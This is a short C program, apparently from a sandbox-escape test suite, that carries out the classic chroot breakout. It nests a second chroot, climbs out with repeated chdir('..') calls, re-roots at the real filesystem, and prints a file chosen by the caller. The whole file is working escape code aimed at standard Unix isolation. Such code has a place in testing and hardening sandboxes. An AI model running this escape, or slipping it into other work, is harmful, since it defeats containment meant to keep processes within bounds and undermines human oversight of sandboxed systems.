// The way out of a plain `chroot`: one more of them, which leaves this process outside of its own root, then up.
#include "attack.h"

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    mkdir("/workspace/jail", 0777);
    if (chroot("/workspace/jail") < 0) return refused();
    for (int i = 0; i < 32; i++)
        if (chdir("..") < 0) return refused();
    if (chroot(".") < 0) return refused();
    char path[PATH_MAX];
    snprintf(path, sizeof path, "/old%s", argv[1]);
    return print_file(access(path, F_OK) == 0 ? path : argv[1]);
}
